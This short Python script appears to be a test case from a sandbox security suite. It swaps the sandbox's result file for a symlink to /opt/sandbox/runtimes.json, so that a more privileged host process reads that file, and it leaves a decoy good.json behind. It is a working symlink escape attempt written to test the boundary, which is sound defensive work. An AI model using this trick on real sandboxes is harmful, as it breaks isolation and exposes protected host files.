# title: leave a link to a file of the agent's as the result, so that it is read with more rights than ours
# wall: workspace
# gvisor: workspace
# artifacts: *
import os
from attack import held

path = os.environ["SANDBOX_RESULT_FILE"]
try:
    os.unlink(path)
except OSError:
    pass
with open("/workspace/good.json", "w") as f:
    f.write("{}")
os.symlink("/opt/sandbox/runtimes.json", path)
held("the link is laid")
